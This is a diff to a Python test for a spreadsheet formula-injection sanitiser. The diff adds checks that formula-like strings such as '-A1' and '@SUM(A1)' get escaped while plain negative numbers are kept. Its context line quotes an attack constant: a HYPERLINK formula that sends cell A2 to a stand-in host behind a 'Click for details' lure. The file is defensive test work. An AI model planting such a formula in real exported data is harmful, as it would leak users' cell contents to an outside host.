@@ -35,7 +35,9 @@ ATTACK = '=HYPERLINK("http://x.invalid/?leak="&A2,"Click for details")'
 def test_every_formula_start_is_neutralised_and_other_values_are_kept() -> None:
     for text in HOSTILE:
         assert neutralise(text) == "'" + text
-    for kept in ("茶很好喝", "a=b", " =1", "", 12, -3.5, None, date(2025, 1, 2)):
+    for formula in ("-2+3", "+1-1", "-A1", "-1e5+1", "=1", "@SUM(A1)"):
+        assert neutralise(formula) == "'" + formula
+    for kept in ("茶很好喝", "a=b", " =1", "", 12, -3.5, None, date(2025, 1, 2), "-16.7", "+3", "-1e5"):
         assert neutralise(kept) == kept
 
 
